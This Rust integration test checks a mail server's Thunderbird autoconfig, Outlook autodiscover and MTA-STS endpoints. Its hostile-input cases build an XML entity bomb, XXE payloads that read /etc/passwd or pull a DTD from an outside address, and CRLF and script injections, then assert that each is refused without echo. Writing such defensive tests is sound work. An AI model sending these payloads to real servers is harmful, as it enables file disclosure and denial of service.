//! What mail clients and sending servers fetch (issue 21): Thunderbird's autoconfig, Outlook's
//! autodiscover (POX and the v2 JSON redirect) and the MTA-STS policy, over the real web server
//! on SQLite. The documents are validated with `xmllint` against XML schemas written for these
//! tests from the published formats (tests/fixtures/client-setup/); hostile requests (XML
//! bombs, external entities, CRLF and markup in addresses, other hosts) are refused without
//! echoing them.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::PathBuf;
use std::process::Command;

use common::web::{http_with, start_with, Answer};
use modobox::config::Config;
use modobox::names::{DomainName, Hostname};
use modobox::store::access::Actor;
use modobox::store::domains::{self, DomainPatch, DomainSpec, Relay};

fn dom(n: &str) -> DomainName {
    DomainName::parse("d", n).unwrap()
}

fn fixtures() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/client-setup")
}

/// `xmllint --schema`: whether `xml` is valid against `schema`, and what it said.
fn valid(xml: &str, schema: &str) -> Result<(), String> {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("doc.xml");
    std::fs::write(&file, xml).unwrap();
    let out = match Command::new("xmllint")
        .arg("--noout")
        .arg("--nonet")
        .arg("--schema")
        .arg(fixtures().join(schema))
        .arg(&file)
        .output()
    {
        Ok(o) => o,
        Err(e) => {
            assert!(
                std::env::var("CI").is_err(),
                "xmllint: {e} (tests/setup-host installs libxml2-utils)"
            );
            eprintln!("xmllint missing: schema check skipped");
            return Ok(());
        }
    };
    if out.status.success() {
        Ok(())
    } else {
        Err(String::from_utf8_lossy(&out.stderr).into_owned())
    }
}

async fn get(port: u16, path: &str, host: &str) -> Answer {
    http_with(port, "GET", path, &[&format!("Host: {host}")], &[], None).await
}

async fn post_xml(port: u16, body: &str) -> Answer {
    // A body that does not start with `{` goes as a form: the handler reads bytes either way.
    http_with(
        port,
        "POST",
        "/autodiscover/autodiscover.xml",
        &["Host: autodiscover.example.org"],
        &[],
        Some(body),
    )
    .await
}

fn outlook_request(address: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<Autodiscover xmlns=\"http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006\">\n  <Request>\n    <EMailAddress>{address}</EMailAddress>\n    <AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema>\n  </Request>\n</Autodiscover>\n"
    )
}

#[tokio::test]
async fn mail_clients_and_senders_find_their_settings() {
    let db = common::sqlite().await;
    let store = db.connect().await;
    modobox::store::migrate::migrate(&store).await.unwrap();
    let mut tx = store.begin().await.unwrap();
    let sys = Actor::System;
    for d in ["example.org", "example.net", "off.example"] {
        domains::create(&mut tx, sys, &dom(d), &DomainSpec::default(), None)
            .await
            .unwrap();
    }
    let off = DomainPatch {
        enabled: Some(false),
        ..DomainPatch::default()
    };
    domains::update(&mut tx, sys, &dom("off.example"), &off)
        .await
        .unwrap();
    domains::create_alias(
        &mut tx,
        sys,
        &dom("alias.example"),
        &dom("example.org"),
        true,
    )
    .await
    .unwrap();
    let relay = Relay {
        target_host: "192.0.2.25".into(),
        target_port: 25,
        service: "relay".into(),
        verify_recipients: false,
    };
    domains::create(
        &mut tx,
        sys,
        &dom("relay.example"),
        &DomainSpec::default(),
        Some(&relay),
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let mut config = Config::new(Hostname::parse("hostname", "mail.example.test").unwrap());
    config.components.pop3 = true;
    let port = start_with(&store, config.clone()).await;

    // Thunderbird: the same document by address and by host name, for two domains and a
    // domain alias (whose login is the address at the domain it is an alias of).
    for (domain, login) in [
        ("example.org", "%EMAILADDRESS%"),
        ("example.net", "%EMAILADDRESS%"),
        ("alias.example", "%EMAILLOCALPART%@example.org"),
    ] {
        let by_address = get(
            port,
            &format!("/mail/config-v1.1.xml?emailaddress=alice%40{domain}"),
            "mail.example.test",
        )
        .await;
        assert_eq!(by_address.status, 200, "{domain}: {}", by_address.body);
        assert!(
            by_address
                .header("content-type")
                .is_some_and(|c| c.starts_with("application/xml")),
            "{:?}",
            by_address.headers
        );
        valid(&by_address.body, "autoconfig-1.1.xsd")
            .unwrap_or_else(|e| panic!("{domain}: {e}\n{}", by_address.body));
        let body = &by_address.body;
        assert!(
            body.contains(&format!("<domain>{domain}</domain>")),
            "{body}"
        );
        assert!(
            body.contains(&format!("<username>{login}</username>")),
            "{body}"
        );
        for (kind, p, socket) in [
            ("imap", 993, "SSL"),
            ("imap", 143, "STARTTLS"),
            ("pop3", 995, "SSL"),
            ("smtp", 465, "SSL"),
            ("smtp", 587, "STARTTLS"),
        ] {
            assert!(
                body.contains(&format!("type=\"{kind}\">\n      <hostname>mail.example.test</hostname>\n      <port>{p}</port>\n      <socketType>{socket}</socketType>")),
                "{kind} {p}: {body}"
            );
        }
        let by_host = get(
            port,
            "/.well-known/autoconfig/mail/config-v1.1.xml",
            &format!("autoconfig.{domain}"),
        )
        .await;
        assert_eq!((by_host.status, &by_host.body), (200, body), "{domain}");
    }
    // Without POP3, no POP3 server is offered.
    let mut no_pop = config.clone();
    no_pop.components.pop3 = false;
    let port2 = start_with(&store, no_pop).await;
    let a = get(
        port2,
        "/mail/config-v1.1.xml?emailaddress=a%40example.org",
        "x",
    )
    .await;
    assert_eq!(a.status, 200);
    assert!(!a.body.contains("pop3"), "{}", a.body);

    // Names the server does not host (or not as a mail domain), and hostile addresses: 404 or
    // 400, nothing echoed.
    for (path, host, status) in [
        (
            "/mail/config-v1.1.xml?emailaddress=a%40elsewhere.test",
            "x",
            404,
        ),
        (
            "/mail/config-v1.1.xml?emailaddress=a%40relay.example",
            "x",
            404,
        ),
        (
            "/mail/config-v1.1.xml?emailaddress=a%40off.example",
            "x",
            404,
        ),
        ("/mail/config-v1.1.xml", "autoconfig.elsewhere.test", 404),
        ("/mail/config-v1.1.xml", "mail.example.test", 404),
        ("/mail/config-v1.1.xml", "autoconfig.<script>.test", 404),
        (
            "/mail/config-v1.1.xml?emailaddress=a%40example.org%0D%0AX-Evil%3A%201",
            "x",
            400,
        ),
        (
            "/mail/config-v1.1.xml?emailaddress=%3Cscript%3Ealert(1)%3C%2Fscript%3E%40example.org",
            "x",
            400,
        ),
    ] {
        let a = get(port, path, host).await;
        assert_eq!(a.status, status, "{path} ({host}): {}", a.body);
        for echoed in ["<script", "X-Evil", "elsewhere"] {
            assert!(
                !a.body.contains(echoed),
                "{path}: echoed {echoed}: {}",
                a.body
            );
        }
        assert!(a.header("x-evil").is_none());
    }

    // Outlook: the POX request, for the same three domains.
    for (domain, login) in [
        ("example.org", "alice@example.org"),
        ("example.net", "alice@example.net"),
        ("alias.example", "alice@example.org"),
    ] {
        let a = post_xml(port, &outlook_request(&format!("alice@{domain}"))).await;
        assert_eq!(a.status, 200, "{domain}: {}", a.body);
        valid(&a.body, "autodiscover-response.xsd")
            .unwrap_or_else(|e| panic!("{domain}: {e}\n{}", a.body));
        assert!(
            a.body.contains(&format!("<LoginName>{login}</LoginName>")),
            "{}",
            a.body
        );
        for (kind, p) in [("IMAP", 993), ("POP3", 995), ("SMTP", 465)] {
            assert!(
                a.body.contains(&format!("<Type>{kind}</Type>\n        <Server>mail.example.test</Server>\n        <Port>{p}</Port>")),
                "{kind}: {}",
                a.body
            );
        }
    }
    let a = post_xml(port, &outlook_request("alice@elsewhere.test")).await;
    assert_eq!(a.status, 404, "{}", a.body);
    // Hostile bodies: an entity bomb, external entities (a file, a URL), markup in the
    // address, no address, something else than XML, too large. None is parsed past its DTD,
    // none echoed.
    let bomb = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">{}]><Autodiscover><Request><EMailAddress>&lol9;</EMailAddress></Request></Autodiscover>",
        (1..10)
            .map(|i| format!("<!ENTITY lol{i} \"{}\">", format!("&lol{};", if i == 1 { String::new() } else { (i - 1).to_string() }).repeat(10)))
            .collect::<String>()
    );
    let xxe_file = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><Autodiscover><Request><EMailAddress>&xxe;</EMailAddress></Request></Autodiscover>";
    let xxe_url = "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://192.0.2.1/evil.dtd\"><Autodiscover><Request><EMailAddress>a@example.org</EMailAddress></Request></Autodiscover>";
    let huge = outlook_request(&format!("{}@example.org", "a".repeat(20_000)));
    for (body, status) in [
        (bomb.as_str(), 400),
        (xxe_file, 400),
        (xxe_url, 400),
        (&outlook_request("<b>x</b>@example.org"), 400),
        (&outlook_request("alice@example.org\r\nX-Evil: 1"), 400),
        ("<Autodiscover><Request/></Autodiscover>", 400),
        ("EMailAddress=alice@example.org", 400),
        (huge.as_str(), 413),
    ] {
        let a = post_xml(port, body).await;
        assert_eq!(
            a.status,
            status,
            "{}: {}",
            &body[..body.len().min(120)],
            a.body
        );
        for echoed in ["root:", "lol", "X-Evil", "<b>", "evil.dtd"] {
            assert!(!a.body.contains(echoed), "echoed {echoed}: {}", a.body);
        }
    }

    // Autodiscover v2: where the v1 service is, for the AutodiscoverV1 protocol only.
    for path in [
        "/autodiscover/autodiscover.json?Email=alice%40alias.example&Protocol=AutodiscoverV1",
        "/autodiscover/autodiscover.json/v1.0/alice%40example.org?Protocol=AutodiscoverV1",
    ] {
        let a = get(port, path, "autodiscover.example.org").await;
        assert_eq!(a.status, 200, "{path}: {}", a.body);
        let v: serde_json::Value = serde_json::from_str(&a.body).unwrap();
        assert_eq!(
            v,
            serde_json::json!({"Protocol": "AutodiscoverV1", "Url": "https://mail.example.test/autodiscover/autodiscover.xml"})
        );
    }
    for (path, status) in [
        (
            "/autodiscover/autodiscover.json?Email=alice%40example.org&Protocol=ActiveSync",
            404,
        ),
        (
            "/autodiscover/autodiscover.json?Email=alice%40elsewhere.test&Protocol=AutodiscoverV1",
            404,
        ),
        (
            "/autodiscover/autodiscover.json?Protocol=AutodiscoverV1",
            400,
        ),
    ] {
        let a = get(port, path, "autodiscover.example.org").await;
        assert_eq!(a.status, status, "{path}: {}", a.body);
    }

    // MTA-STS: the policy whose id `dns records --mta-sts` publishes, over HTTPS only, for
    // hosted domains only.
    let a = get(port, "/.well-known/mta-sts.txt", "mta-sts.example.org").await;
    assert_eq!(a.status, 200, "{}", a.body);
    assert!(a
        .header("content-type")
        .is_some_and(|c| c.starts_with("text/plain")));
    assert!(
        a.body
            .starts_with("version: STSv1\r\nmode: testing\r\nmx: mail.example.test\r\n"),
        "{}",
        a.body
    );
    let mut tx = store.begin_read().await.unwrap();
    let d = domains::get(&mut tx, sys, &dom("example.org"))
        .await
        .unwrap();
    drop(tx);
    let addresses = ["192.0.2.10".parse().unwrap()];
    let records = modobox::dns::records::for_domain(&d, &config, &addresses, true).unwrap();
    let published = records
        .iter()
        .find(|r| r.name.starts_with("_mta-sts."))
        .expect("an _mta-sts record");
    let id = modobox::dns::records::mta_sts_id(&a.body);
    assert!(
        published.value.contains(&format!("id={id}")),
        "{published:?} vs {id}"
    );
    for (host, proto) in [
        ("mta-sts.example.org", "http"),
        ("mta-sts.alias.example", "https"),
        ("mta-sts.relay.example", "https"),
        ("mta-sts.elsewhere.test", "https"),
        ("example.org", "https"),
    ] {
        let a = http_with(
            port,
            "GET",
            "/.well-known/mta-sts.txt",
            &[
                &format!("Host: {host}"),
                &format!("X-Forwarded-Proto: {proto}"),
            ],
            &[],
            None,
        )
        .await;
        assert_eq!(a.status, 404, "{host} over {proto}: {}", a.body);
        assert!(!a.body.contains("STSv1"));
    }
    // `mail.mta_sts_mode = "enforce"`: the served policy and the published id change together.
    let mut enforcing = config.clone();
    enforcing.mail.mta_sts_mode = modobox::config::MtaStsMode::Enforce;
    let port3 = start_with(&store, enforcing.clone()).await;
    let a = get(port3, "/.well-known/mta-sts.txt", "mta-sts.example.org").await;
    assert!(a.body.contains("\r\nmode: enforce\r\n"), "{}", a.body);
    let records = modobox::dns::records::for_domain(&d, &enforcing, &addresses, true).unwrap();
    let enforced_id = modobox::dns::records::mta_sts_id(&a.body);
    assert_ne!(enforced_id, id);
    assert!(
        records
            .iter()
            .any(|r| r.name.starts_with("_mta-sts.")
                && r.value.contains(&format!("id={enforced_id}")))
    );
    store.close().await;
}
